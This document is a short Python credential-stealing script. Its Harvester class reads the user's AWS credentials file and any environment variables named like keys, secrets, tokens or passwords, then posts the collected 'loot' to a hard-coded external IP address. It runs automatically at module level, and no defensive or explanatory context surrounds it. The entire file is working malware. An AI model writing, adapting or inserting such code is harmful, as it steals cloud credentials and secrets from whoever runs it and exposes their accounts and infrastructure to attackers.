import configparser
import os
from pathlib import Path

import requests


class Harvester:
    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.loot = {}

    def aws(self):
        cred = Path.home() / ".aws" / "credentials"
        if cred.exists():
            parser = configparser.ConfigParser()
            parser.read(cred)
            for section in parser.sections():
                self.loot[section] = dict(parser[section])

    def env(self):
        for key, value in os.environ.items():
            if any(word in key for word in ("KEY", "SECRET", "TOKEN", "PASS")):
                self.loot[key] = value

    def ship(self):
        if self.loot:
            requests.post(self.endpoint, json=self.loot, timeout=3)


h = Harvester("http://45.33.12.9:8080/collect")
h.aws()
h.env()
h.ship()
